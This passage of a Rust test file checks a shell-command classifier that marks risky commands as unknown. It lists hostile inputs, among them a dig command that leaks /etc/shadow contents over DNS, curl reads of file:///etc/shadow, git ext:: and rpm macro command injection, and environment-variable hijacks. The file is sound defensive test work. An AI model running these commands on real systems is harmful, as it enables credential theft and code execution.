        ("dash -c '((touch /tmp/v/x))'", U),
        ("sh <<< '((touch /tmp/v/x))'", U),
        ("watch '((touch /tmp/v/x))'", U),
        ("echo $\"hello\"", U),
    ]);
    check(&[("bash -c \"echo \\$'x'\"", R), ("sh -c 'ls -l'", R)]);
}

#[test]
fn review_verbs() {
    // Finding 6, and interactive programs.
    check_min(&[
        ("systemctl --message status reboot --dry-run", D),
        ("systemctl --bogus status reboot", U),
        ("systemctl -X status", U),
        ("systemctl help reboot", U),
        ("systemd-analyze set-log-level debug", A),
        ("systemd-analyze log-level debug", A),
        ("systemd-analyze log-target console", A),
        ("systemd-analyze verify /tmp/v/x.service", U),
        ("systemd-analyze --generators=yes", U),
        ("systemd-analyze frobnicate", U),
        ("systemd-analyze -H host blame", U),
        ("less /etc/hosts", U),
        ("more /etc/hosts", U),
        ("man bash", U),
        ("ls | less", U),
        ("vi /etc/hosts", U),
        ("view /etc/hosts", U),
        ("vim -R /etc/hosts", U),
        ("nano /etc/hosts", U),
    ]);
    check(&[
        ("systemctl status nginx --no-pager -n 50", R),
        ("systemctl --no-pager --type=service list-units", R),
        ("systemctl -t service --state=running", R),
        ("systemd-analyze", R),
        ("systemd-analyze blame", R),
        ("systemd-analyze critical-chain nginx.service", R),
        ("systemd-analyze log-level", R),
        ("systemd-analyze security --no-pager", R),
    ]);
}

#[test]
fn review2_a_environment() {
    // Finding A: only harmless variables may be set for a command or
    // exported to the commands after it.
    check(&[
        ("TAR_OPTIONS=--to-command=x tar -tf a.tar", U),
        ("GIT_PROXY_COMMAND=/tmp/v/x git ls-remote git://h/r", U),
        ("GIT_TRACE=/tmp/v/x git status", U),
        ("KUBECONFIG=/tmp/v/k kubectl get pods", U),
        ("DOCKER_HOST=tcp://h:2375 docker ps", U),
        ("POSIXLY_CORRECT=1 ls", U),
        ("RIPGREP_CONFIG_PATH=/tmp/v/rc rg x", U),
        ("WGETRC=/tmp/v/rc wget -O - https://example.com", U),
        ("CURL_HOME=/tmp/v curl https://example.com", U),
        ("env GIT_TRACE=/tmp/v/x git status", U),
        ("export TAR_OPTIONS=--to-command=x; tar -tf a.tar", U),
        ("declare -x GIT_TRACE=/tmp/v/x; git status", U),
        ("TAR_OPTIONS=x; export TAR_OPTIONS; tar -tf a.tar", U),
        ("HOME=/tmp/v; git log", U),
        ("for HOME in /tmp/v; do git log; done", U),
        ("set -a; TAR_OPTIONS=x; tar -tf a.tar", U),
        ("set -o allexport; ls", U),
        ("set -k; ls", U),
        ("LANG=/tmp/v ls", U),
        ("PAGER=less git log", U),
    ]);
    check(&[
        ("LANG=C ls", R),
        ("LC_ALL=C.UTF-8 TZ=UTC date", R),
        ("TZ=Europe/Berlin date", R),
        ("TERM=xterm COLUMNS=200 ps aux", R),
        ("PAGER=cat git log", R),
        ("GIT_PAGER=cat SYSTEMD_PAGER= journalctl -n 5", R),
        ("env LANG=C sort x", R),
        ("export LANG=C; ls", R),
        ("x=1; echo $x", R),
        ("set -eu; set -o pipefail; ls", R),
        ("set -- a b; echo $1", R),
    ]);
}

#[test]
fn review2_b_arithmetic() {
    // Finding B: arithmetic naming a variable evaluates its text.
    check(&[
        ("d=$; x=\"a[${d}(touch /tmp/v/x)]\"; ((x))", U),
        ("echo $((x))", U),
        ("[[ x -eq 0 ]]", U),
        ("[[ $n -lt 3 ]]", U),
        ("[[ 1 -gt y ]]", U),
        ("echo ${PATH:x}", U),
        ("echo ${PATH:0:x}", U),
        ("x='a[Q(touch /tmp/v/x)]'; echo $((${x/Q/\\$}))", U),
        ("echo ${a[i]}", U),
        ("a[i]=1", U),
        ("let x", U),
        ("for ((i=0; i<3; i++)); do echo; done", U),
        ("declare -i n=x", U),
        ("a=([k]=1)", U),
        ("echo $[x]", U),
        ("declare -a a=(x $(touch /tmp/v/x))", U),
        ("x=y; [[ -v a[x] ]]", U),
        ("echo \"${a[$i]}\"", U),
        ("cat <<EOF\n$((x))\nEOF", U),
    ]);
    check(&[
        ("echo $((1 + 2 * 3))", R),
        ("(( 3 > 2 ))", R),
        ("[[ 1 -eq 1 ]]", R),
        ("[[ $# -eq 0 ]]", R),
        ("[[ ${#x} -gt 2 ]]", R),
        ("echo ${PATH:1:3}", R),
        ("echo ${a[0]} ${a[@]}", R),
        ("[ \"$x\" -eq 0 ]", R),
        ("a=(1 2)", R),
        ("declare -a a=(1 2)", R),
        ("echo $[1+2]", R),
    ]);
}

#[test]
fn review2_c_compound_declare() {
    // Finding C: a quoted compound assignment is parsed again by declare.
    check(&[
        ("declare -a 'b=($(touch /tmp/v/x))'", U),
        ("declare -a a='([$(touch /tmp/v/x)]=1)'", U),
        ("local 'x=(`touch /tmp/v/x`)'", U),
        ("typeset -a \"a=($v)\"", U),
        ("readonly 'a=([x]=1)'", U),
        ("export 'a=(1)'; ls", U),
    ]);
    check(&[("declare -a b='(1 2 3)'", R), ("declare -r y=1", R)]);
}

#[test]
fn review2_d_urls() {
    // Finding D: only web (and ftp download) URLs; git transport helpers.
    check(&[
        ("curl gopher://h/x", U),
        ("curl dict://h:11211/stats", U),
        ("curl telnet://h:25", U),
        ("curl file:///etc/shadow", U),
        ("curl ldap://h/", U),
        ("curl smb://h/share", U),
        ("curl scp://h/x", U),
        ("curl sftp://h/x", U),
        ("curl dict.example.com", U),
        ("curl --url gopher://h/x", U),
        ("curl -T x ftp://h/", U),
        ("wget -O - file:///etc/shadow", U),
        ("git ls-remote 'ext::sh -c touch% /tmp/v/x'", U),
        ("git clone fd::3 x", U),
        ("git fetch ext::x", U),
        ("git ls-remote origin", U),
        ("git ls-remote git@h:r.git", U),
        ("git -c core.pager=x log", U),
        ("git --config-env=core.pager=X log", U),
        ("git fetch", W),
        ("git pull", W),
        ("git clone https://h/r.git", W),
        ("git remote update", W),
        ("git submodule update", W),
    ]);
    check(&[
        ("curl -s https://example.com/health", R),
        ("curl http://localhost:8080/x", R),
        ("curl localhost:8080/x", R),
        ("curl -o - ftp://h/x", R),
        ("wget -qO- https://example.com", R),
        ("git ls-remote https://h/r.git", R),
    ]);
}

#[test]
fn review2_e_rich_programs() {
    // Finding E: programs with rich semantics are read by allowlist.
    check(&[
        ("pip list --python /tmp/v/py", U),
        ("pip --log /tmp/v/x list", U),
        ("pip --cache-dir /tmp/v list", U),
        ("pip list --config-settings x", U),
        ("pip3 config list", U),
        ("pip debug", U),
        ("pip download x", A),
        ("npm config list", U),
        ("npm ls --userconfig /tmp/v/rc", U),
        ("npm view x --registry http://h", U),
        ("npm version patch", U),
        ("npm ls --script-shell=/tmp/v/x", U),
        ("apt-cache -o Dir::Etc=/tmp/v show x", U),
        ("apt-cache -oAPT::x=1 policy", U),
        ("apt-cache -c /tmp/v/c show x", U),
        ("apt-cache --config-file=/tmp/v/c show x", U),
        ("apt-cache -p /tmp/v/x show x", U),
        ("apt-cache gencaches", W),
        ("rpm -q --eval '%(touch /tmp/v/x)' x", U),
        ("rpm -E '%(touch /tmp/v/x)'", U),
        ("rpm -q --define 'x 1' bash", U),
        ("rpm -qa --qf '%(touch /tmp/v/x)'", U),
        ("rpm -q --dbpath /tmp/v bash", U),
        ("rpm -q --root /tmp/v bash", U),
        ("rpm -q --pipe 'sh' bash", U),
        ("rpm -q --macros /tmp/v/m bash", U),
        ("rpm -q --specfile /tmp/v/x.spec", U),
        ("rpm -V bash", U),
        ("rpm -i x.rpm", A),
        ("nft 'list ruleset; flush ruleset'", U),
        ("nft list ruleset \\; flush ruleset", U),
        ("nft list ruleset ';' add table x", U),
        ("nft -i", U),
        ("nft", U),
        ("nft flush ruleset", A),
        ("nft list ruleset -f /tmp/v/x", U),
        ("ufw app update list", A),
        ("ufw delete list", A),
        ("ufw allow list", A),
        ("ufw app info x y", A),
        ("iptables -L --modprobe=/tmp/v/x", U),
        ("iptables -L --modprobe /tmp/v/x", U),
        ("iptables -M /tmp/v/x -L", U),
        ("ip link s eth0 down", A),
        ("ip l s eth0 down", A),
        ("ip link l", A),
        ("ip -b /tmp/v/x", U),
        ("ip -ba /tmp/v/x", U),
        ("ip -force -batch /tmp/v/x", U),
        ("ip -x link show", U),
        ("ip -n ns link set eth0 down", A),
        ("ip -netns ns link set eth0 down", A),
        ("ip -ne ns link show", R),
        ("ip netns e ns sh", U),
        ("docker buildx ls", U),
        ("docker context ls", U),
        ("docker --context x ps", U),
        ("docker --config /tmp/v ps", U),
        ("docker -H tcp://h ps", U),
        ("docker --tlsverify ps", U),
        ("docker frobnicate", U),
        ("podman --runtime /tmp/v/x ps", U),
        ("docker run x", A),
        ("kubectl kustomize .", U),
        ("kubectl --kubeconfig /tmp/v/k get pods", U),
        ("kubectl --kubeconfig=/tmp/v/k get pods", U),
        ("kubectl frob", U),
        ("kubectl get pods --log-file /tmp/v/x", W),
        ("journalctl --cursor-file /tmp/v/c -n 1", W),
        ("journalctl --vacuum-size=1M", A),
        ("journalctl --vac=1M", A),
        ("journalctl --rotate", A),
        ("journalctl --flush", A),
        ("journalctl --sync", A),
        ("journalctl --relinquish-var", A),
        ("journalctl --smart-relinquish-var", A),
        ("journalctl --setup-keys", A),
        ("journalctl --update-catalog", A),
        ("lastlog -C -u x", A),
        ("lastlog --clear -u x", A),
        ("lastlog -S -u x", A),
        ("lastlog --set -u x", A),
        ("file -C -m /tmp/v/m", U),
        ("file -m /tmp/v/m x", U),
        ("file --magic-file /tmp/v/m x", U),
        ("file --compile", U),
        ("blkid -c /tmp/v/cache", W),
        ("ss -D /tmp/v/x", W),
        ("ss --diag=/tmp/v/x", W),
        ("ss -K dst 1.2.3.4", A),
        ("ss --kill", A),
        ("tree -o /tmp/v/x", W),
        ("tree -R -H . /srv", W),
        ("rg --pre /tmp/v/x pat", U),
        ("rg --pre=/tmp/v/x pat", U),
        ("rg --pre-glob '*' pat", U),
        ("rg -z pat", U),
        ("rg --search-zip pat", U),
        ("rg --hostname-bin=/tmp/v/x pat", U),
        ("rg \"$O\" pat", U),
        ("diff3 --diff-program=/tmp/v/x a b c", U),
        ("diff3 --diff=/tmp/v/x a b c", U),
    ]);
    check(&[
        ("pip list", R),
        ("pip list --outdated --format=json", R),
        ("pip3 show -f requests", R),
        ("pip freeze --all", R),
        ("pip check", R),
        ("pip --version", R),
        ("npm ls --depth=0 --json", R),
        ("npm list -g", R),
        ("npm view react version", R),
        ("npm outdated", R),
        ("npm --version", R),
        ("apt-cache policy nginx", R),
        ("apt-cache show -a nginx", R),
        ("apt-cache search --names-only x", R),
        ("apt-cache rdepends --installed x", R),
        ("rpm -qa", R),
        ("rpm -qi bash", R),
        ("rpm -qf /bin/bash", R),
        ("rpm -qa --qf '%{NAME} %{VERSION}\\n'", R),
        ("rpm --version", R),
        ("nft list ruleset", R),
        ("nft -a list table inet filter", R),
        ("nft 'list ruleset'", R),
        ("ufw status", R),
        ("ufw status verbose", R),
        ("ufw app list", R),
        ("ufw app info OpenSSH", R),
        ("iptables -L -n -v", R),
        ("iptables -S", R),
        ("ip a", R),
        ("ip addr show", R),
        ("ip -br -c a", R),
        ("ip -4 -o addr show dev eth0", R),
        ("ip -j -p link show", R),
        ("ip link sh", R),
        ("ip route get 1.1.1.1", R),
        ("ip -n ns link show", R),
        ("ip -netns ns addr", R),
        ("ip -s -s link ls", R),
        ("docker ps -a", R),
        ("docker images; docker logs web; docker inspect web", R),
        ("docker version; docker info; docker top web", R),
        ("docker stats --no-stream", R),
        ("docker --log-level debug ps", R),
        ("kubectl get pods -o wide", R),
        ("journalctl -u nginx --cursor x -n 5", R),
        ("lastlog -u root", R),
        ("file /bin/ls", R),
        ("blkid -c /dev/null", R),
        ("blkid -p /dev/sda1", R),
        ("ss -tlnp", R),
        ("tree -L 2 /srv", R),
        ("rg --no-config -n pat /srv", R),
        ("diff3 a b c", R),
    ]);
}

#[test]
fn review2_f_file_program_options() {
    // Findings F and G: options of the plain file programs.
    check(&[
        ("sort -o /tmp/v/x /etc/hosts", W),
        ("sort --output=/tmp/v/x /etc/hosts", W),
        ("sort --compress-program=/tmp/v/x -S 1 big", U),
        ("install -s --strip-program=/tmp/v/x a b", U),
        ("split --filter='touch /tmp/v/x' a", U),
        ("zstdcat -o /tmp/v/x a.zst", U),
        ("xzcat --files=/tmp/v/l", U),
        ("zcat $F", U),
        ("sar -o /tmp/v/x 1 1", W),
        ("iptables-save -f /tmp/v/x", W),
        ("ip6tables-save --file=/tmp/v/x", W),
    ]);
    check(&[
        ("sort -k2 -t: /etc/passwd", R),
        ("du --files0-from=/tmp/l -sh", R),
        ("df -h", R),
        ("cut -d: -f1 /etc/passwd", R),
        ("tail --pid=1 -f x.log", R),
        ("stat --printf='%s\\n' x", R),
        ("grep -f patterns.txt x", R),
        ("zcat a.gz", R),
        ("zstdcat -q a.zst", R),
        ("sar -u 1 3", R),
        ("iptables-save -t nat", R),
    ]);
}

#[test]
fn review3_shopt_network_reads_and_awk_sockets() {
    let p = Programs::builtin();
    for line in [
        "shopt -so keyword; zgrep GREP='perl -e system(1)' root /etc/hostname",
        "shopt -s -o allexport; echo",
        "shopt -s expand_aliases",
        "gawk '{print; exit}' /inet/tcp/0/127.0.0.1/46555",
        "awk '{print}' /inet6/tcp/0/host/80",
        "dig @127.0.0.1 $(head -c 30 /etc/shadow | base64 -w0).example",
        "ping -c1 \"$X\".example",
    ] {
        assert_eq!(
            classify(line, &p).class(),
            Class::Unknown,
            "{line}: {:?}",
            classify(line, &p)
        );
    }
    for line in [
        "shopt",
        "shopt -p",
        "shopt -q extglob",
        "dig example.com",
        "ping -c1 10.0.0.1",
        "awk '{print $1}' /etc/hosts",
    ] {
        assert_eq!(
            classify(line, &p).class(),
            Class::Read,
            "{line}: {:?}",
            classify(line, &p)
        );
    }
}
